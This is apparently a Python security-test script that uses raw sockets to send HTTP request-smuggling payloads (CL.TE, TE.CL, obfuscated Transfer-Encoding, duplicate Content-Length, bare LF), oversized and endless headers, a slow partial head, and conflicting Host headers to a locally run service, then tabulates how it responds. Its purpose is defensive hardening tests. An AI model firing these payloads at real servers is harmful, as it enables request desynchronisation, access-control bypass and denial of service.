"""Raw-socket HTTP attacks on a running instance: request smuggling, oversized and slow heads.

    .venv/bin/python bench/http_attacks.py --base-url http://127.0.0.1:8000 [--slow-cap 40]

Every case talks to the service over a plain socket, sending bytes no HTTP client would, and
reports the status codes the server answered on that connection, whether a request hidden in a
body ran (for a hidden POST: `GET /products?q=<its marker>` over a fresh connection finds the
product), whether the server closed the connection after its answer, and after how many
seconds. The server under test decides the framing; the app only sees what the server passes on.
"""

import argparse
import json
import select
import socket
import time
import uuid
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from functools import partial
from urllib.parse import urlsplit

import httpx

HEAD_LIMIT = 64 * 1024
CRLF = b"\r\n"


@dataclass(frozen=True)
class Target:
    """Where the service under test listens."""

    host: str
    port: int

    @classmethod
    def from_url(cls, url: str) -> "Target":
        """The target of a base URL such as http://127.0.0.1:8000."""
        parts = urlsplit(url)
        if parts.scheme != "http" or parts.hostname is None:
            raise ValueError(f"need a plain http:// base URL, got {url!r}")
        return cls(parts.hostname, parts.port or 80)

    @property
    def authority(self) -> str:
        """The value of a correct Host header."""
        return f"{self.host}:{self.port}"

    @property
    def base_url(self) -> str:
        """The base URL for httpx."""
        return f"http://{self.authority}"


@dataclass(frozen=True)
class Exchange:
    """What one raw connection carried back."""

    data: bytes
    closed: bool  # the server closed (or reset) the connection
    reset: bool  # ... with a reset, or while we were still sending
    seconds: float  # from our last byte sent until the close, or until we stopped waiting
    elapsed: float  # from our first byte sent until then
    sent: int  # bytes we managed to send


@dataclass(frozen=True)
class Result:
    """The outcome of one case."""

    case: str
    statuses: tuple[int, ...]  # every answer on the connection, in order
    ran: bool | None  # the hidden request ran; None where the case hides none
    closed: bool
    seconds: float
    note: str = ""


@dataclass(frozen=True)
class Smuggle:
    """A request whose framing is ambiguous, with a complete request hidden after or in it.

    `headers` are the framing lines; `{n}` in them is the body's length and `{first}` the
    length of the body's first line (the chunk-size line), CRLF included.
    """

    name: str
    headers: tuple[str, ...]
    body: str = "cl.te"  # "cl.te": 0-chunk + hidden; "hidden": hidden alone; "te.cl": one chunk
    eol: bytes = CRLF
    hidden_get: bool = False


CL = "Content-Length: {n}"
TE = "Transfer-Encoding: chunked"
SMUGGLES = (
    Smuggle("CL.TE: CL before TE", (CL, TE)),
    Smuggle("CL.TE: TE before CL", (TE, CL)),
    Smuggle("CL.TE: TE before CL, hidden GET", (TE, CL), hidden_get=True),
    Smuggle("TE: CHUNKED", (CL, "Transfer-Encoding: CHUNKED")),
    Smuggle("TE:<tab>chunked", (CL, "Transfer-Encoding:\tchunked")),
    Smuggle("TE: chunked, identity", (CL, "Transfer-Encoding: chunked, identity")),
    Smuggle("TE: identity, chunked", (CL, "Transfer-Encoding: identity, chunked")),
    Smuggle("'Transfer-Encoding : chunked'", (CL, "Transfer-Encoding : chunked")),
    Smuggle("two TE: chunked; identity", (CL, TE, "Transfer-Encoding: identity")),
    Smuggle("two TE: identity; chunked", (CL, "Transfer-Encoding: identity", TE)),
    Smuggle("two CL: 0; 0 (pipelined)", ("Content-Length: 0", "Content-Length: 0"), "hidden"),
    Smuggle("two CL: 0; N", ("Content-Length: 0", CL), "hidden"),
    Smuggle("two CL: N; 0", (CL, "Content-Length: 0"), "hidden"),
    Smuggle("obs-fold: 'TE:\\r\\n chunked'", (CL, "Transfer-Encoding:\r\n chunked")),
    Smuggle("bare LF hides TE in X-Pad", (CL, "X-Pad: a\nTransfer-Encoding: chunked")),
    Smuggle("bare LF head, CL + TE", (CL, TE), eol=b"\n"),
    # Not smuggling: whether bare LF is accepted at all, for reading the two cases above.
    Smuggle("bare LF head, CL 0 (control)", ("Content-Length: 0",), "hidden", eol=b"\n"),
    Smuggle("TE.CL: CL = chunk-size line", (TE, "Content-Length: {first}"), "te.cl"),
)


def _drain(sock: socket.socket, into: bytearray, until: float, quiet: float) -> str:
    """Reads into `into` until EOF ("eof"), a reset ("reset"), or `quiet` s of silence or the
    monotonic time `until` ("open")."""
    idle_from = time.monotonic()
    while True:
        left = min(idle_from + quiet, until) - time.monotonic()
        if left <= 0:
            return "open"
        ready, _, _ = select.select([sock], [], [], left)
        if not ready:
            continue
        try:
            chunk = sock.recv(65536)
        except ConnectionResetError:
            return "reset"
        if not chunk:
            return "eof"
        into += chunk
        idle_from = time.monotonic()


def talk(
    target: Target,
    pieces: Iterable[bytes],
    *,
    interval: float = 0.0,
    quiet: float = 2.0,
    cap: float = 40.0,
    stop_on_answer: bool = False,
) -> Exchange:
    """Sends `pieces` `interval` s apart on a new connection, then reads until the server
    closes, falls quiet for `quiet` s, or `cap` s have passed since the first byte."""
    received = bytearray()
    sent = 0
    state = "open"
    with socket.create_connection((target.host, target.port), timeout=10) as sock:
        start = last_sent = time.monotonic()
        for piece in pieces:
            try:
                sock.sendall(piece)
            except TimeoutError:
                break  # the server stopped reading but kept the connection: wait for it below
            except OSError:
                state = "reset"  # closed or reset under us: what it answered may still be here
                break
            sent += len(piece)
            last_sent = time.monotonic()
            if interval:
                state = _drain(sock, received, last_sent + interval, interval)
            if state != "open" or (stop_on_answer and received) or last_sent - start > cap:
                break
        if state == "open" or not received:
            # After a failed send the answer may still be readable; after EOF this returns at once.
            drained = _drain(sock, received, start + cap, quiet)
            state = drained if state == "open" else state
        end = time.monotonic()
    closed = state != "open"
    return Exchange(bytes(received), closed, state == "reset", end - last_sent, end - start, sent)


def statuses(data: bytes) -> tuple[int, ...]:
    """The status codes of the responses in `data`, in order, read by their own framing."""
    return tuple(status for status, _ in answers(data))


def answers(data: bytes) -> list[tuple[int, str]]:
    """Each response's status and Content-Type ("" for none), read by their own framing."""
    found: list[tuple[int, str]] = []
    rest = data
    while rest.startswith(b"HTTP/"):
        head_end = rest.find(b"\r\n\r\n")
        if head_end < 0:
            break
        status_line, *lines = rest[:head_end].decode("latin-1").split("\r\n")
        headers = {}
        for line in lines:
            name, _, value = line.partition(":")
            headers[name.strip().lower()] = value.strip().lower()
        found.append((int(status_line.split()[1]), headers.get("content-type", "")))
        rest = rest[head_end + 4 :]
        if "chunked" in headers.get("transfer-encoding", ""):
            rest = _skip_chunks(rest)
        elif "content-length" in headers:
            rest = rest[int(headers["content-length"]) :]
        else:
            break  # framed by the close: the rest is its body
    return found


def _skip_chunks(data: bytes) -> bytes:
    """What follows a chunked body at the start of `data` (empty if it is cut short)."""
    while True:
        line_end = data.find(CRLF)
        if line_end < 0:
            return b""
        size = int(data[:line_end].split(b";")[0], 16)
        data = data[line_end + 2 :]
        if size == 0:
            if data.startswith(CRLF):
                return data[2:]
            trailer_end = data.find(CRLF + CRLF)
            return b"" if trailer_end < 0 else data[trailer_end + 4 :]
        data = data[size + 2 :]


def _marker() -> str:
    return f"smuggled-{uuid.uuid4().hex}"


def hidden_post(target: Target, marker: str) -> bytes:
    """A complete `POST /products` creating a product named `marker`."""
    body = json.dumps({"name": marker, "price": 1}).encode()
    head = (
        f"POST /products HTTP/1.1\r\nHost: {target.authority}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
    )
    return head.encode() + body


def hidden_get(target: Target, marker: str) -> bytes:
    """A complete GET whose 200 can only be the hidden request's answer."""
    return f"GET /products?q={marker} HTTP/1.1\r\nHost: {target.authority}\r\n\r\n".encode()


def product_exists(target: Target, marker: str) -> bool:
    """Whether a product named `marker` exists, asked over a fresh connection."""
    response = httpx.get(f"{target.base_url}/products", params={"q": marker}, timeout=10)
    response.raise_for_status()
    found: list[object] = response.json()
    return bool(found)


def smuggle_request(target: Target, case: Smuggle, marker: str) -> bytes:
    """The attack's bytes: a `POST /products` framed per `case`, the hidden request inside."""
    hidden = (hidden_get if case.hidden_get else hidden_post)(target, marker)
    if case.body == "cl.te":
        body = b"0\r\n\r\n" + hidden
    elif case.body == "te.cl":
        # Chunk-framed, the hidden request is the body's data; length-framed, only the size line.
        body = f"{len(hidden):x}\r\n".encode() + hidden + b"\r\n0\r\n\r\n"
    else:
        body = hidden
    first = body.find(CRLF) + 2
    lines = [
        "POST /products HTTP/1.1",
        f"Host: {target.authority}",
        "Content-Type: application/json",
        *(line.format(n=len(body), first=first) for line in case.headers),
    ]
    head = case.eol.join(line.encode() for line in lines) + case.eol + case.eol
    return head + body


def run_smuggle(target: Target, case: Smuggle, quiet: float = 2.0) -> Result:
    """One smuggling case: did the hidden request run, and was the connection closed?"""
    marker = _marker()
    exchange = talk(target, [smuggle_request(target, case, marker)], quiet=quiet)
    answered = statuses(exchange.data)
    # A 200 after the first answer can only be the hidden GET's: the outer POST cannot get one.
    ran = 200 in answered[1:] if case.hidden_get else product_exists(target, marker)
    return _result(case.name, exchange, ran)


def _result(
    name: str, exchange: Exchange, ran: bool | None = None, note: str = "", seconds: float = -1
) -> Result:
    notes = [note] if note else []
    first = answers(exchange.data)[:1]
    if first:
        # Who answered: problem+json is the app's, text/plain uvicorn's, no body the server's.
        notes.insert(0, first[0][1].split(";")[0] or "no content-type")
    if exchange.reset:
        notes.append("reset")
    seconds = exchange.seconds if seconds < 0 else seconds
    return Result(name, statuses(exchange.data), ran, exchange.closed, seconds, ", ".join(notes))


def _get(target: Target, path: str, *headers: str, version: str = "1.1") -> bytes:
    lines = [f"GET {path} HTTP/{version}", *headers]
    return "\r\n".join(lines).encode() + CRLF + CRLF


def control(target: Target, quiet: float = 2.0) -> Result:
    """A plain keep-alive GET: 200, connection left open."""
    request = _get(target, "/products?limit=1", f"Host: {target.authority}")
    return _result("control: plain GET", talk(target, [request], quiet=quiet))


def big_head_at_once(target: Target, quiet: float = 2.0) -> Result:
    """A complete head over 64 KiB (80 headers of 1 KiB) in one send."""
    pads = [f"X-Pad-{i:02}: {'a' * 1000}" for i in range(80)]
    request = _get(target, "/products?limit=1", f"Host: {target.authority}", *pads)
    exchange = talk(target, [request], quiet=quiet)
    return _result("head > 64 KiB, at once", exchange, note=f"head {len(request)} B")


def endless_header(target: Target, cap: float = 40.0, max_bytes: int = 16 << 20) -> Result:
    """One header value that never ends, 4 KiB every 10 ms, until the server reacts."""

    def pieces() -> Iterator[bytes]:
        yield f"GET /products HTTP/1.1\r\nHost: {target.authority}\r\nX-Endless: ".encode()
        for _ in range(max_bytes // 4096):
            yield b"a" * 4096

    exchange = talk(target, pieces(), interval=0.01, quiet=2.0, cap=cap, stop_on_answer=True)
    note = f"sent {exchange.sent // 1024} KiB in all"
    if not exchange.closed:
        note += f", still open at the {cap:g} s cap"
    # The time that counts is how long the server let the head grow, from the first byte.
    return _result("head > 64 KiB, endless header", exchange, note=note, seconds=exchange.elapsed)


def long_uri(target: Target, quiet: float = 2.0) -> Result:
    """A 20 KiB request target in a head well under 64 KiB."""
    request = _get(target, f"/products?q={'a' * 20480}", f"Host: {target.authority}")
    exchange = talk(target, [request], quiet=quiet)
    return _result("URI 20 KiB", exchange, note=f"head {len(request)} B")


def longer_uri(target: Target, quiet: float = 2.0) -> Result:
    """A 70 KiB request target: over 64 KiB on its own, where 414 and 431 both fit."""
    request = _get(target, f"/products?q={'a' * 70 * 1024}", f"Host: {target.authority}")
    exchange = talk(target, [request], quiet=quiet)
    return _result("URI 70 KiB", exchange, note=f"head {len(request)} B")


def slow_head(target: Target, cap: float = 40.0) -> Result:
    """Half a head, then nothing: how long the server keeps the connection."""
    partial = f"GET /products HTTP/1.1\r\nHost: {target.authority}\r\n".encode()
    exchange = talk(target, [partial], quiet=cap, cap=cap)
    note = "" if exchange.closed else f"still open at the {cap:g} s cap"
    return _result("slow head (partial, then silence)", exchange, note=note)


def absolute_form(target: Target, quiet: float = 2.0) -> Result:
    """`GET http://host:port/products`, the form proxies are sent."""
    url = f"{target.base_url}/products?limit=1"
    request = _get(target, url, f"Host: {target.authority}")
    return _result("absolute-form target", talk(target, [request], quiet=quiet))


def two_hosts(target: Target, quiet: float = 2.0) -> Result:
    """Two Host headers naming different hosts."""
    request = _get(target, "/products?limit=1", f"Host: {target.authority}", "Host: evil.example")
    return _result("two Host headers", talk(target, [request], quiet=quiet))


def no_host(target: Target, quiet: float = 2.0) -> Result:
    """An HTTP/1.1 request without Host."""
    request = _get(target, "/products?limit=1", "Accept: */*")
    return _result("HTTP/1.1 without Host", talk(target, [request], quiet=quiet))


@dataclass(frozen=True)
class Plan:
    """Which cases to run, and how long to wait."""

    slow_cap: float = 40.0
    quiet: float = 2.0
    smuggles: tuple[Smuggle, ...] = field(default=SMUGGLES)


def run_all(target: Target, plan: Plan | None = None) -> list[Result]:
    """Every case, in table order."""
    plan = plan or Plan()
    cases: list[Callable[[], Result]] = [lambda: control(target, plan.quiet)]
    cases += [partial(run_smuggle, target, case, plan.quiet) for case in plan.smuggles]
    cases += [
        lambda: big_head_at_once(target, plan.quiet),
        lambda: endless_header(target, plan.slow_cap),
        lambda: long_uri(target, plan.quiet),
        lambda: longer_uri(target, plan.quiet),
        lambda: slow_head(target, plan.slow_cap),
        lambda: absolute_form(target, plan.quiet),
        lambda: two_hosts(target, plan.quiet),
        lambda: no_host(target, plan.quiet),
    ]
    return [case() for case in cases]


def _yes_no(value: bool | None) -> str:
    return "-" if value is None else ("yes" if value else "no")


def table(results: Iterable[Result]) -> str:
    """A markdown table of `results`."""
    rows = [
        "| case | status | hidden ran | closed | s | note |",
        "|---|---|---|---|---:|---|",
    ]
    for r in results:
        status = "+".join(map(str, r.statuses)) or "none"
        rows.append(
            f"| {r.case} | {status} | {_yes_no(r.ran)} | {_yes_no(r.closed)} "
            f"| {r.seconds:.1f} | {r.note} |"
        )
    return "\n".join(rows)


def main() -> None:
    """Runs every case against --base-url and prints the table."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--base-url", default="http://127.0.0.1:8000")
    parser.add_argument("--slow-cap", type=float, default=40.0, help="longest wait, seconds")
    parser.add_argument("--quiet", type=float, default=2.0, help="silence that ends a read")
    args = parser.parse_args()
    target = Target.from_url(args.base_url)
    print(table(run_all(target, Plan(slow_cap=args.slow_cap, quiet=args.quiet))))


if __name__ == "__main__":
    main()
